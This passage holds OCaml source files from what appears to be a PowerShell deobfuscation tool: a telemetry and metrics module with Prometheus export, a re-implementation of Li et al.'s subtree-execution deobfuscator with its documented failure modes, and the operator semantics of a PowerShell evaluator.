                Flight.note ~attrs ~kind:"end" s.os_name;
              rest
          | s :: rest ->
              push t Span_end s.os_name ~id:s.os_id ~parent:s.os_parent [];
              close rest
        in
        if List.exists (fun s -> s.os_id = id) t.stack then
          t.stack <- close t.stack

let span ?attrs name f =
  let id = span_begin ?attrs name in
  match f () with
  | v ->
      span_end id;
      v
  | exception e ->
      span_end id;
      raise e

let event ?(attrs = []) name =
  if Atomic.get Flight.on then Flight.note ~attrs ~kind:"event" name;
  match Domain.DLS.get ambient with
  | None -> ()
  | Some t -> push t Point name ~id:0 ~parent:(current_span t) attrs

(* ---------- reading a trace back ---------- *)

let events t =
  let n = min t.pushed t.capacity in
  let first = t.pushed - n in
  List.init n (fun i -> t.buf.((first + i) mod t.capacity))

let dropped t = t.dropped

(* every span line carries the full (trace_id, span id, parent id) triple,
   so lines from different requests remain correlatable after any amount of
   log mixing *)
let event_to_json ?trace_id e =
  let tid =
    match trace_id with
    | None -> ""
    | Some id -> Printf.sprintf "\"trace_id\": %s, " (json_string id)
  in
  Printf.sprintf
    "{%s\"seq\": %d, \"t_ms\": %.3f, \"kind\": %s, \"name\": %s, \"id\": %d, \
     \"parent\": %d, \"attrs\": %s}"
    tid e.seq e.t_ms
    (json_string (kind_label e.kind))
    (json_string e.name) e.id e.parent (attrs_to_json e.attrs)

(** One JSON object per line, oldest event first, closed by a summary line
    [{"kind": "summary", "trace_id": …, "events": N, "dropped": N}]. *)
let to_jsonl t =
  let buf = Buffer.create 4096 in
  List.iter
    (fun e ->
      Buffer.add_string buf (event_to_json ~trace_id:t.trace_id e);
      Buffer.add_char buf '\n')
    (events t);
  Buffer.add_string buf
    (Printf.sprintf
       "{\"kind\": \"summary\", \"trace_id\": %s, \"events\": %d, \
        \"dropped\": %d}\n"
       (json_string t.trace_id) t.pushed t.dropped);
  Buffer.contents buf

(** The buffered events as one single-line JSON array — the serve
    protocol's inline [trace] response field. *)
let events_to_json_array t =
  "["
  ^ String.concat ", " (List.map (event_to_json ?trace_id:None) (events t))
  ^ "]"

(* ---------- metrics registry ---------- *)

module Metrics = struct
  (* float cells need a CAS loop: Atomic has no fetch-and-add for floats *)
  let rec atomic_update a f =
    let cur = Atomic.get a in
    if not (Atomic.compare_and_set a cur (f cur)) then atomic_update a f

  type counter = { c_name : string; c : int Atomic.t }
  type gauge = { g_name : string; g : int Atomic.t }

  (* Log-scale latency histogram: bucket [i] counts observations with
     [v <= 2^(i + min_exp)] ms; the last bucket is the +inf overflow.
     Base-2 bounds from 1/16 ms to ~37 h cover every latency this pipeline
     can produce while keeping the array small enough to be all-Atomic. *)
  let min_exp = -4
  let bucket_count = 32

  let bucket_bound i =
    if i >= bucket_count - 1 then infinity
    else Float.of_int 2 ** Float.of_int (i + min_exp)

  let bucket_of v =
    if Float.is_nan v then bucket_count - 1
    else begin
      let rec find i =
        if i >= bucket_count - 1 then bucket_count - 1
        else if v <= bucket_bound i then i
        else find (i + 1)
      in
      find 0
    end

  type histogram = {
    h_name : string;
    buckets : int Atomic.t array;
    h_count : int Atomic.t;
    h_sum : float Atomic.t;
    h_min : float Atomic.t;  (** [infinity] until the first observation *)
    h_max : float Atomic.t;  (** [neg_infinity] until the first observation *)
  }

  type registry = {
    mutable counters : counter list;
    mutable gauges : gauge list;
    mutable histograms : histogram list;
  }

  let registry = { counters = []; gauges = []; histograms = [] }
  let registry_mutex = Mutex.create ()

  let locked f =
    Mutex.lock registry_mutex;
    Fun.protect ~finally:(fun () -> Mutex.unlock registry_mutex) f

  let counter name =
    locked (fun () ->
        match List.find_opt (fun c -> c.c_name = name) registry.counters with
        | Some c -> c
        | None ->
            let c = { c_name = name; c = Atomic.make 0 } in
            registry.counters <- c :: registry.counters;
            c)

  let incr ?(by = 1) c = ignore (Atomic.fetch_and_add c.c by)
  let counter_value c = Atomic.get c.c

  let gauge name =
    locked (fun () ->
        match List.find_opt (fun g -> g.g_name = name) registry.gauges with
        | Some g -> g
        | None ->
            let g = { g_name = name; g = Atomic.make 0 } in
            registry.gauges <- g :: registry.gauges;
            g)

  let set g v = Atomic.set g.g v
  let gauge_value g = Atomic.get g.g

  let histogram name =
    locked (fun () ->
        match
          List.find_opt (fun h -> h.h_name = name) registry.histograms
        with
        | Some h -> h
        | None ->
            let h =
              { h_name = name;
                buckets = Array.init bucket_count (fun _ -> Atomic.make 0);
                h_count = Atomic.make 0;
                h_sum = Atomic.make 0.0;
                h_min = Atomic.make infinity;
                h_max = Atomic.make neg_infinity }
            in
            registry.histograms <- h :: registry.histograms;
            h)

  let observe h v =
    ignore (Atomic.fetch_and_add h.buckets.(bucket_of v) 1);
    ignore (Atomic.fetch_and_add h.h_count 1);
    atomic_update h.h_sum (fun s -> s +. v);
    atomic_update h.h_min (fun m -> Float.min m v);
    atomic_update h.h_max (fun m -> Float.max m v)

  type histogram_snapshot = {
    hs_count : int;
    hs_sum : float;
    hs_min : float;  (** [nan] when empty *)
    hs_max : float;  (** [nan] when empty *)
    hs_buckets : (float * int) list;
        (** non-empty buckets as (upper bound in ms, count); the overflow
            bucket's bound is [infinity] *)
  }

  type snapshot = {
    counters : (string * int) list;  (** sorted by name *)
    gauges : (string * int) list;
    histograms : (string * histogram_snapshot) list;
  }

  let snapshot_histogram h =
    let count = Atomic.get h.h_count in
    let buckets = ref [] in
    for i = bucket_count - 1 downto 0 do
      let n = Atomic.get h.buckets.(i) in
      if n > 0 then buckets := (bucket_bound i, n) :: !buckets
    done;
    { hs_count = count;
      hs_sum = Atomic.get h.h_sum;
      hs_min = (if count = 0 then Float.nan else Atomic.get h.h_min);
      hs_max = (if count = 0 then Float.nan else Atomic.get h.h_max);
      hs_buckets = !buckets }

  (* Quantile estimate from the log2 buckets: the upper bound of the bucket
     the q-th observation falls in (the true max for the overflow bucket,
     since infinity is useless as a latency estimate).  Coarse by design —
     buckets double — but monotone and cheap, which is what a daemon's
     p50/p99 health numbers need. *)
  let quantile hs q =
    if hs.hs_count = 0 then Float.nan
    else begin
      let q = Float.max 0.0 (Float.min 1.0 q) in
      let target =
        Float.max 1.0 (Float.round (q *. float_of_int hs.hs_count))
      in
      let rec walk seen = function
        | [] -> hs.hs_max
        | (bound, n) :: rest ->
            let seen = seen + n in
            if float_of_int seen >= target then
              if bound = infinity then hs.hs_max else bound
            else walk seen rest
      in
      walk 0 hs.hs_buckets
    end

  let by_name (a, _) (b, _) = String.compare a b

  let snapshot () =
    locked (fun () ->
        { counters =
            List.sort by_name
              (List.map (fun c -> (c.c_name, Atomic.get c.c)) registry.counters);
          gauges =
            List.sort by_name
              (List.map (fun g -> (g.g_name, Atomic.get g.g)) registry.gauges);
          histograms =
            List.sort by_name
              (List.map (fun h -> (h.h_name, snapshot_histogram h))
                 registry.histograms) })

  (* Zeroes every registered value; handles created before the reset stay
     valid.  Used at the start of a batch run so metrics.json is per-run. *)
  let reset () =
    locked (fun () ->
        List.iter (fun c -> Atomic.set c.c 0) registry.counters;
        List.iter (fun g -> Atomic.set g.g 0) registry.gauges;
        List.iter
          (fun h ->
            Array.iter (fun b -> Atomic.set b 0) h.buckets;
            Atomic.set h.h_count 0;
            Atomic.set h.h_sum 0.0;
            Atomic.set h.h_min infinity;
            Atomic.set h.h_max neg_infinity)
          registry.histograms)

  let histogram_snapshot_to_json hs =
    let min_s = if Float.is_nan hs.hs_min then "null" else json_float hs.hs_min in
    let max_s = if Float.is_nan hs.hs_max then "null" else json_float hs.hs_max in
    let q v = if Float.is_nan v then "null" else json_float v in
    Printf.sprintf
      "{\"count\": %d, \"sum_ms\": %s, \"min_ms\": %s, \"max_ms\": %s, \
       \"p50_ms\": %s, \"p90_ms\": %s, \"p99_ms\": %s, \"buckets\": [%s]}"
      hs.hs_count (json_float hs.hs_sum) min_s max_s
      (q (quantile hs 0.50))
      (q (quantile hs 0.90))
      (q (quantile hs 0.99))
      (String.concat ", "
         (List.map
            (fun (le, n) ->
              if le = infinity then Printf.sprintf "{\"le_ms\": null, \"n\": %d}" n
              else Printf.sprintf "{\"le_ms\": %s, \"n\": %d}" (json_float le) n)
            hs.hs_buckets))

  let snapshot_to_json s =
    let field (name, v) = Printf.sprintf "    %s: %d" (json_string name) v in
    let hfield (name, hs) =
      Printf.sprintf "    %s: %s" (json_string name)
        (histogram_snapshot_to_json hs)
    in
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"counters\": {\n%s\n  },"
          (String.concat ",\n" (List.map field s.counters));
        Printf.sprintf "  \"gauges\": {\n%s\n  },"
          (String.concat ",\n" (List.map field s.gauges));
        Printf.sprintf "  \"histograms\": {\n%s\n  }"
          (String.concat ",\n" (List.map hfield s.histograms));
        "}";
      ]

  (* ----- Prometheus text exposition (version 0.0.4) ----- *)

  (* metric names admit [a-zA-Z0-9_:] only; our dotted registry names map
     dots (and anything else) to underscores under one shared prefix *)
  let prom_name name =
    let buf = Buffer.create (String.length name + 16) in
    Buffer.add_string buf "invoke_deobf_";
    String.iter
      (fun c ->
        match c with
        | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> Buffer.add_char buf c
        | _ -> Buffer.add_char buf '_')
      name;
    Buffer.contents buf

  let prom_float f =
    if Float.is_nan f then "NaN"
    else if f = infinity then "+Inf"
    else if f = neg_infinity then "-Inf"
    else Printf.sprintf "%.6g" f

  (** Render a snapshot in Prometheus text exposition format: counters as
      [_total]-suffixed counters, gauges as gauges, and each log2 latency
      histogram as a cumulative [_bucket{le=…}] series with [_sum] and
      [_count]. *)
  let to_prometheus s =
    let buf = Buffer.create 8192 in
    let line fmt = Printf.ksprintf (fun l -> Buffer.add_string buf l) fmt in
    List.iter
      (fun (name, v) ->
        let n = prom_name name ^ "_total" in
        line "# TYPE %s counter\n%s %d\n" n n v)
      s.counters;
    List.iter
      (fun (name, v) ->
        let n = prom_name name in
        line "# TYPE %s gauge\n%s %d\n" n n v)
      s.gauges;
    List.iter
      (fun (name, hs) ->
        let n = prom_name name in
        line "# TYPE %s histogram\n" n;
        let cum = ref 0 in
        List.iter
          (fun (le, count) ->
            cum := !cum + count;
            if le <> infinity then
              line "%s_bucket{le=\"%s\"} %d\n" n (prom_float le) !cum)
          hs.hs_buckets;
        line "%s_bucket{le=\"+Inf\"} %d\n" n hs.hs_count;
        line "%s_sum %s\n" n (prom_float hs.hs_sum);
        line "%s_count %d\n" n hs.hs_count)
      s.histograms;
    Buffer.contents buf
end

(* ---------- rolling-window aggregates ---------- *)

(* The registry's histograms are cumulative since boot (or the last
   [Metrics.reset]) — the right shape for a batch rollup, the wrong one
   for a live scrape: an operator wants p99 over the last minute, not the
   daemon's lifetime.  A window keeps the newest [capacity] observations
   with their timestamps in a mutex-guarded ring and aggregates only the
   ones inside the horizon at read time, so quantiles, rates and means
   all answer "now".  Observation is O(1); aggregation cost (a copy and a
   sort, bounded by [capacity]) is paid by the scraper, not the request
   path. *)
module Window = struct
  type t = {
    w_name : string;
    w_cap : int;
    w_horizon : float;  (* seconds of history that count at read time *)
    w_ts : float array;  (* observation wall-clock, epoch seconds *)
    w_vs : float array;
    mutable w_total : int;  (* observations ever; next slot = total mod cap *)
    w_mutex : Mutex.t;
  }

  let make ~name ~capacity ~horizon_s =
    let cap = max 16 capacity in
    { w_name = name; w_cap = cap; w_horizon = Float.max 0.001 horizon_s;
      w_ts = Array.make cap 0.0; w_vs = Array.make cap 0.0; w_total = 0;
      w_mutex = Mutex.create () }

  (* get-or-create registry, mirroring the metrics registry so the scrape
     endpoint can render every live window without threading handles *)
  let registry : t list ref = ref []
  let registry_mutex = Mutex.create ()

  let window ?(capacity = 1024) ?(horizon_s = 60.0) name =
    Mutex.lock registry_mutex;
    Fun.protect
      ~finally:(fun () -> Mutex.unlock registry_mutex)
      (fun () ->
        match List.find_opt (fun w -> w.w_name = name) !registry with
        | Some w -> w
        | None ->
            let w = make ~name ~capacity ~horizon_s in
            registry := w :: !registry;
            w)

  let locked w f =
    Mutex.lock w.w_mutex;
    Fun.protect ~finally:(fun () -> Mutex.unlock w.w_mutex) f

  (* [?at] exists for tests: a synthetic stream with pinned timestamps
     makes ageing-out assertions deterministic *)
  let observe ?at w v =
    let t = match at with Some t -> t | None -> Unix.gettimeofday () in
    locked w (fun () ->
        let i = w.w_total mod w.w_cap in
        w.w_ts.(i) <- t;
        w.w_vs.(i) <- v;
        w.w_total <- w.w_total + 1)

  let reset w = locked w (fun () -> w.w_total <- 0)

  (* in-horizon values, unordered *)
  let values ?now w =
    let now = match now with Some t -> t | None -> Unix.gettimeofday () in
    let cutoff = now -. w.w_horizon in
    locked w (fun () ->
        let n = min w.w_total w.w_cap in
        let acc = ref [] in
        for i = 0 to n - 1 do
          if w.w_ts.(i) >= cutoff then acc := w.w_vs.(i) :: !acc
        done;
        !acc)

  let count ?now w = List.length (values ?now w)

  (* nearest-rank quantile over the in-horizon samples: exact for what is
     in the window (unlike the log2-bucket estimate), [nan] when empty *)
  let quantile ?now w q =
    match values ?now w with
    | [] -> Float.nan
    | vs ->
        let a = Array.of_list vs in
        Array.sort Float.compare a;
        let n = Array.length a in
        let q = Float.max 0.0 (Float.min 1.0 q) in
        let rank =
          int_of_float (Float.round (q *. float_of_int n +. 0.5)) - 1
        in
        a.(max 0 (min (n - 1) rank))

  (* observations per second over the horizon — the EWMA-flavoured "rate
     right now" a scrape wants (the window itself is the decay) *)
  let rate ?now w =
    float_of_int (count ?now w) /. w.w_horizon

  let mean ?now w =
    match values ?now w with
    | [] -> Float.nan
    | vs -> List.fold_left ( +. ) 0.0 vs /. float_of_int (List.length vs)

  let registered () =
    Mutex.lock registry_mutex;
    Fun.protect
      ~finally:(fun () -> Mutex.unlock registry_mutex)
      (fun () -> List.rev !registry)

  (* windows render as labelled gauges: one metric name per aggregate,
     one time series per window *)
  let to_prometheus ?now () =
    let ws = registered () in
    if ws = [] then ""
    else begin
      let buf = Buffer.create 1024 in
      let line fmt = Printf.ksprintf (fun l -> Buffer.add_string buf l) fmt in
      let series name f =
        line "# TYPE invoke_deobf_window_%s gauge\n" name;
        List.iter
          (fun w ->
            match f w with
            | v when Float.is_nan v -> ()
            | v ->
                line "invoke_deobf_window_%s{window=\"%s\"} %s\n" name
                  w.w_name (Metrics.prom_float v))
          ws
      in
      series "p50_ms" (fun w -> quantile ?now w 0.50);
      series "p90_ms" (fun w -> quantile ?now w 0.90);
      series "p99_ms" (fun w -> quantile ?now w 0.99);
      series "rate_per_s" (fun w -> rate ?now w);
      series "count" (fun w -> float_of_int (count ?now w));
      Buffer.contents buf
    end
end

(** The scrape endpoint's whole body: the cumulative metrics registry plus
    every live rolling window. *)
let render_prometheus () =
  Metrics.to_prometheus (Metrics.snapshot ()) ^ Window.to_prometheus ()
