(** Re-implementation of Li et al. (CCS 2019), per the paper's comparison
    setup (§IV-C1): the ML classifier is removed and every subtree whose
    root is a PipelineAst is processed.

    Mechanism: execute each PipelineAst subtree in a C#-hosted PowerShell
    runspace, then replace {e all occurrences} of the subtree text in the
    script with the stringified result.

    Documented failure modes reproduced here:
    {ul
    {- no variable context — pieces that mention variables fail;}
    {- object results are replaced by their type name, bare
       ([New-Object Net.WebClient] → [System.Net.WebClient]), which is not
       valid PowerShell (paper Fig 8(c));}
    {- string results are spliced as double-quoted literals;}
    {- replacement is global text substitution, not extent-based, so equal
       text in different contexts is rewritten too (semantics change);}
    {- the C# host's [$PSHome] points at the .NET runtime directory, so
       [$pshome\[4\]+$pshome\[30\]+'x'] recovers the wrong letters.}} *)

module A = Psast.Ast
module Value = Psvalue.Value

(* the hosting bug: System.Management.Automation.dll location, not the
   Windows PowerShell home *)
let csharp_pshome = "C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\5.0.11"

let fresh_env () =
  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps = 200_000 } in
  let env = Pseval.Env.create ~mode:Pseval.Env.Recovery ~limits () in
  Pseval.Env.set_var env "pshome" (Value.Str csharp_pshome);
  env

let render_result value =
  match value with
  | Value.Str s when not (String.contains s '"') ->
      Some (Printf.sprintf "\"%s\"" s)
  | Value.Str _ -> None
  | Value.Int n -> Some (string_of_int n)
  | Value.Obj o -> Some o.Value.otype  (* bare type name: the famous bug *)
  | Value.Char c -> Some (Printf.sprintf "\"%c\"" c)
  | Value.Float f -> Some (Value.float_to_string f)
  | Value.Null | Value.Bool _ | Value.Arr _ | Value.Hash _
  | Value.Script_block _ | Value.Secure_string _ ->
      None

let trivial_piece text =
  let t = String.trim text in
  String.length t < 3
  || (String.length t >= 2 && t.[0] = '\'' && t.[String.length t - 1] = '\''
     && not (String.contains (String.sub t 1 (String.length t - 2)) '\''))

let collect_replacements src ast =
  let pairs = ref [] in
  ignore
    (A.fold_post_order_with_ancestors
       (fun ancestors () node ->
         match node.A.node with
         | A.Pipeline _ -> (
             (* Li et al. miss pipelines hanging off an assignment — the
               limitation behind Table II's position failures *)
             let under_assignment =
               match ancestors with
               | { A.node = A.Assignment _; _ } :: _ -> true
               | _ -> false
             in
             let text = A.text src node in
             if under_assignment || trivial_piece text then ()
             else
               let env = fresh_env () in
               match Pseval.Interp.invoke_piece env text with
               | Ok value -> (
                   match render_result value with
                   | Some rendered when rendered <> String.trim text ->
                       pairs := (String.trim text, rendered) :: !pairs
                   | Some _ | None -> ())
               | Error _ -> ())
         | _ -> ())
       () ast);
  (* longest pieces first so nested pieces don't clobber outer matches *)
  List.sort_uniq
    (fun (a, _) (b, _) ->
      match Int.compare (String.length b) (String.length a) with
      | 0 -> String.compare a b
      | c -> c)
    !pairs

let global_replace ~needle ~replacement s =
  if needle = "" then s
  else begin
    let buf = Buffer.create (String.length s) in
    let nl = String.length needle in
    let rec loop i =
      if i > String.length s - nl then
        Buffer.add_substring buf s i (String.length s - i)
      else if String.sub s i nl = needle then begin
        Buffer.add_string buf replacement;
        loop (i + nl)
      end
      else begin
        Buffer.add_char buf s.[i];
        loop (i + 1)
      end
    in
    loop 0;
    Buffer.contents buf
  end

let one_round src =
  match Psparse.Parser.parse src with
  | Error _ -> src
  | Ok ast ->
      let replacements = collect_replacements src ast in
      List.fold_left
        (fun acc (needle, replacement) -> global_replace ~needle ~replacement acc)
        src replacements

let deobfuscate script =
  let rec fix s iters =
    if iters = 0 then s
    else
      let s' = one_round s in
      if String.equal s' s then s else fix s' (iters - 1)
  in
  Tool.plain (fix script 4)

let tool = { Tool.name = "Li et al."; deobfuscate }
