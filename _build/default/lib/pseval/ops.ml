(** Operator semantics.

    PowerShell converts the right operand to the left operand's type, which
    is what makes ['a' + 1 = "a1"] but [1 + 'a'] an error — obfuscation
    recovery depends on getting these coercions right. *)

open Psvalue
module A = Psast.Ast

exception Op_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Op_error s)) fmt

let wildcard_to_regex pattern =
  let buf = Buffer.create (String.length pattern + 8) in
  Buffer.add_char buf '^';
  String.iter
    (fun c ->
      match c with
      | '*' -> Buffer.add_string buf ".*"
      | '?' -> Buffer.add_char buf '.'
      | '\\' | '^' | '$' | '.' | '|' | '+' | '(' | ')' | '[' | ']' | '{' | '}' ->
          Buffer.add_char buf '\\';
          Buffer.add_char buf c
      | c -> Buffer.add_char buf c)
    pattern;
  Buffer.add_char buf '$';
  Buffer.contents buf

let compile_regex ?(case_sensitive = false) pattern =
  match Regexen.Regex.compile_opt ~case_insensitive:(not case_sensitive) pattern with
  | Ok r -> r
  | Error msg -> fail "invalid regex %S: %s" pattern msg

(* ---------- add / arithmetic ---------- *)

let rec add a b =
  match a with
  | Value.Str s -> Value.Str (s ^ Value.to_string b)
  | Value.Char c -> Value.Str (String.make 1 c ^ Value.to_string b)
  | Value.Int n -> (
      match b with
      | Value.Float _ -> Value.Float (float_of_int n +. Value.to_float b)
      | _ -> Value.Int (n + Value.to_int b))
  | Value.Float f -> Value.Float (f +. Value.to_float b)
  | Value.Arr xs -> Value.Arr (Array.append xs (Array.of_list (Value.to_list b)))
  | Value.Hash pairs -> (
      match b with
      | Value.Hash more -> Value.Hash (pairs @ more)
      | _ -> fail "cannot add %s to a hashtable" (Value.type_name b))
  | Value.Null -> (
      match b with Value.Null -> Value.Null | _ -> add (neutral_for b) b)
  | Value.Bool _ | Value.Script_block _ | Value.Secure_string _ | Value.Obj _ ->
      fail "operator '+' not supported on %s" (Value.type_name a)

and neutral_for = function
  | Value.Str _ | Value.Char _ -> Value.Str ""
  | Value.Int _ -> Value.Int 0
  | Value.Float _ -> Value.Float 0.0
  | Value.Arr _ -> Value.Arr [||]
  | v -> v

let multiply a b =
  match a with
  | Value.Str s ->
      let n = Value.to_int b in
      if n < 0 then fail "negative string multiplier"
      else if n * String.length s > 32 * 1024 * 1024 then fail "string too large"
      else
        Value.Str (String.concat "" (List.init n (fun _ -> s)))
  | Value.Int n -> (
      match b with
      | Value.Float _ -> Value.Float (float_of_int n *. Value.to_float b)
      | _ -> Value.Int (n * Value.to_int b))
  | Value.Float f -> Value.Float (f *. Value.to_float b)
  | Value.Arr xs ->
      let n = Value.to_int b in
      if n < 0 || n * Array.length xs > 1_000_000 then fail "array too large"
      else Value.Arr (Array.concat (List.init n (fun _ -> xs)))
  | _ -> fail "operator '*' not supported on %s" (Value.type_name a)

let arith_int_like a = match a with Value.Float _ -> false | _ -> true

let subtract a b =
  if arith_int_like a && arith_int_like b then Value.Int (Value.to_int a - Value.to_int b)
  else Value.Float (Value.to_float a -. Value.to_float b)

let divide a b =
  let fa = Value.to_float a and fb = Value.to_float b in
  if fb = 0.0 then fail "division by zero"
  else
    let q = fa /. fb in
    if arith_int_like a && arith_int_like b && Float.is_integer q then
      Value.Int (int_of_float q)
    else Value.Float q

let modulo a b =
  let ib = Value.to_int b in
  if ib = 0 then fail "division by zero" else Value.Int (Value.to_int a mod ib)

(* ---------- comparison with array-filter semantics ---------- *)

let scalar_compare_op op ~case_sensitive a b =
  let c = Value.compare_loose ~case_sensitive a b in
  match op with
  | A.Gt -> c > 0
  | A.Ge -> c >= 0
  | A.Lt -> c < 0
  | A.Le -> c <= 0
  | _ -> assert false

let range env_cap a b =
  let lo = Value.to_int a and hi = Value.to_int b in
  let len = abs (hi - lo) + 1 in
  if len > env_cap then fail "range too large (%d elements)" len
  else if lo <= hi then Value.Arr (Array.init len (fun i -> Value.Int (lo + i)))
  else Value.Arr (Array.init len (fun i -> Value.Int (lo - i)))

let like_match ~case_sensitive subject pattern =
  let r = compile_regex ~case_sensitive (wildcard_to_regex pattern) in
  Regexen.Regex.is_match r subject

(* Comparison operators filter when LHS is an array (PowerShell semantics):
   @(1,2,3) -eq 2  →  @(2). *)
let comparison op sensitivity a b =
  let case_sensitive = sensitivity = Some true in
  let test x =
    match op with
    | A.Eq -> Value.equal_loose ~case_sensitive x b
    | A.Ne -> not (Value.equal_loose ~case_sensitive x b)
    | A.Gt | A.Ge | A.Lt | A.Le -> scalar_compare_op op ~case_sensitive x b
    | A.Like -> like_match ~case_sensitive (Value.to_string x) (Value.to_string b)
    | A.Notlike ->
        not (like_match ~case_sensitive (Value.to_string x) (Value.to_string b))
    | A.Match ->
        Regexen.Regex.is_match
          (compile_regex ~case_sensitive (Value.to_string b))
          (Value.to_string x)
    | A.Notmatch ->
        not
          (Regexen.Regex.is_match
             (compile_regex ~case_sensitive (Value.to_string b))
             (Value.to_string x))
    | _ -> assert false
  in
  match a with
  | Value.Arr xs ->
      Value.Arr (Array.of_list (List.filter test (Array.to_list xs)))
  | _ -> Value.Bool (test a)

let replace_op sensitivity a b =
  let case_sensitive = sensitivity = Some true in
  let pattern, replacement =
    match b with
    | Value.Arr [| p; r |] -> (Value.to_string p, Value.to_string r)
    | Value.Arr [| p |] -> (Value.to_string p, "")
    | v -> (Value.to_string v, "")
  in
  let r = compile_regex ~case_sensitive pattern in
  let apply s = Regexen.Regex.replace r ~template:replacement s in
  match a with
  | Value.Arr xs -> Value.Arr (Array.map (fun x -> Value.Str (apply (Value.to_string x))) xs)
  | v -> Value.Str (apply (Value.to_string v))

let split_op sensitivity a b =
  let case_sensitive = sensitivity = Some true in
  (* '-split pattern,count' limits the number of pieces *)
  let pattern, max_count =
    match b with
    | Value.Arr (arr : Value.t array) when Array.length arr >= 2 ->
        (Value.to_string arr.(0), Some (Value.to_int arr.(1)))
    | Value.Arr arr when Array.length arr > 0 -> (Value.to_string arr.(0), None)
    | v -> (Value.to_string v, None)
  in
  let r = compile_regex ~case_sensitive pattern in
  (* applied to an array, -split splits each element and flattens — chained
     splits ('x' -split 'a' -split 'b') rely on this *)
  let subjects =
    match a with
    | Value.Arr xs -> List.map Value.to_string (Array.to_list xs)
    | v -> [ Value.to_string v ]
  in
  let split_one subject =
    let parts = Regexen.Regex.split r subject in
    match max_count with
    | Some n when n > 0 && List.length parts > n ->
        (* keep n pieces: the last one swallows the remaining separators *)
        let rec take i = function
          | [] -> ([], [])
          | x :: rest ->
              if i = 1 then ([], x :: rest)
              else
                let first, leftover = take (i - 1) rest in
                (x :: first, leftover)
        in
        let first, leftover = take n parts in
        (* re-split the original to recover the tail verbatim is regex-hard;
           join leftovers with the literal pattern when it has no
           metacharacters, else with empty string *)
        let sep =
          if String.for_all (fun c -> match c with
              | 'a'..'z' | 'A'..'Z' | '0'..'9' | ' ' | ',' | '~' | ':' | ';'
              | '-' | '_' -> true
              | _ -> false) pattern
          then pattern
          else ""
        in
        first @ [ String.concat sep leftover ]
    | _ -> parts
  in
  Value.Arr
    (Array.of_list
       (List.concat_map
          (fun subject -> List.map (fun s -> Value.Str s) (split_one subject))
          subjects))

let unary_split a =
  (* unary -split: split on runs of whitespace, dropping empties *)
  let subject = Value.to_string a in
  let parts =
    String.split_on_char ' ' subject
    |> List.concat_map (String.split_on_char '\t')
    |> List.concat_map (String.split_on_char '\n')
    |> List.concat_map (String.split_on_char '\r')
    |> List.filter (fun s -> s <> "")
  in
  Value.Arr (Array.of_list (List.map (fun s -> Value.Str s) parts))

let join_op a b =
  let sep = Value.to_string b in
  let parts = List.map Value.to_string (Value.to_list a) in
  Value.Str (String.concat sep parts)

let unary_join a = join_op a (Value.Str "")

let contains_op ?(case_sensitive = false) ~negate a b =
  let hit =
    List.exists (fun x -> Value.equal_loose ~case_sensitive x b) (Value.to_list a)
  in
  Value.Bool (if negate then not hit else hit)

let in_op ?(case_sensitive = false) ~negate a b =
  let hit =
    List.exists (fun x -> Value.equal_loose ~case_sensitive x a) (Value.to_list b)
  in
  Value.Bool (if negate then not hit else hit)

let type_matches type_name v =
  let tn = Pscommon.Strcase.lower type_name in
  let actual = Pscommon.Strcase.lower (Value.type_name v) in
  let aliases =
    match tn with
    | "int" | "int32" -> [ "system.int32" ]
    | "long" | "int64" -> [ "system.int64" ]
    | "string" -> [ "system.string" ]
    | "char" -> [ "system.char" ]
    | "bool" | "boolean" -> [ "system.boolean" ]
    | "double" | "float" -> [ "system.double" ]
    | "array" | "object[]" -> [ "system.object[]" ]
    | "hashtable" -> [ "system.collections.hashtable" ]
    | "scriptblock" -> [ "system.management.automation.scriptblock" ]
    | "securestring" -> [ "system.security.securestring" ]
    | t -> [ t; "system." ^ t ]
  in
  List.mem actual aliases

let bitwise op a b =
  let x = Value.to_int a and y = Value.to_int b in
  match op with
  | A.Band -> Value.Int (x land y)
  | A.Bor -> Value.Int (x lor y)
  | A.Bxor -> Value.Int (x lxor y)
  | A.Shl -> Value.Int (x lsl (y land 63))
  | A.Shr -> Value.Int (x asr (y land 63))
  | _ -> assert false

let logical op a b =
  let x = Value.to_bool a and y = Value.to_bool b in
  match op with
  | A.And_op -> Value.Bool (x && y)
  | A.Or_op -> Value.Bool (x || y)
  | A.Xor_op -> Value.Bool (x <> y)
  | _ -> assert false

(* ---------- indexing ---------- *)

let index_string s i =
  let n = String.length s in
  let i = if i < 0 then n + i else i in
  if i < 0 || i >= n then Value.Null else Value.Char s.[i]

let index_array xs i =
  let n = Array.length xs in
  let i = if i < 0 then n + i else i in
  if i < 0 || i >= n then Value.Null else xs.(i)

let index_value container index =
  let scalar_index v i =
    match v with
    | Value.Str s -> index_string s i
    | Value.Arr xs -> index_array xs i
    | Value.Null -> Value.Null
    | _ -> fail "cannot index %s" (Value.type_name v)
  in
  match (container, index) with
  | Value.Hash pairs, key -> (
      match
        List.find_opt (fun (k, _) -> Value.equal_loose k key) pairs
      with
      | Some (_, v) -> v
      | None -> Value.Null)
  | v, Value.Arr indices ->
      (* slice: collect each index; string slices yield char arrays *)
      Value.Arr (Array.map (fun ix -> scalar_index v (Value.to_int ix)) indices)
  | v, ix -> scalar_index v (Value.to_int ix)
