(** Fixed-size domain pool with an atomic work queue.

    Determinism by construction: item [i]'s result is written only to slot
    [i], and slots are disjoint, so the result list is always in input
    order no matter how the scheduler interleaves the workers.  Worker
    domains inherit nothing ambient — {!Guard}'s deadline stack is
    domain-local, so a deadline installed in one worker can never leak
    into another. *)

let recommended_jobs () = Domain.recommended_domain_count ()

(* Scheduling metrics, aggregated across all pools of the process: how long
   items sat in the queue before a worker claimed them vs how long they ran,
   plus a per-domain task count (all Atomic-backed, so workers bump them
   concurrently and a snapshot at join time sees every domain's share). *)
let m_queue_wait = Telemetry.Metrics.histogram "pool.queue_wait_ms"
let m_run = Telemetry.Metrics.histogram "pool.run_ms"
let m_jobs = Telemetry.Metrics.gauge "pool.jobs"

let map ?(jobs = 1) f items =
  let items = Array.of_list items in
  let n = Array.length items in
  let jobs = max 1 (min jobs n) in
  if jobs <= 1 then Array.to_list (Array.map f items)
  else begin
    let results = Array.make n None in
    let next = Atomic.make 0 in
    Telemetry.Metrics.set m_jobs jobs;
    let started = Unix.gettimeofday () in
    let worker k () =
      let m_tasks =
        Telemetry.Metrics.counter (Printf.sprintf "pool.tasks.d%d" k)
      in
      let rec loop () =
        let i = Atomic.fetch_and_add next 1 in
        if i < n then begin
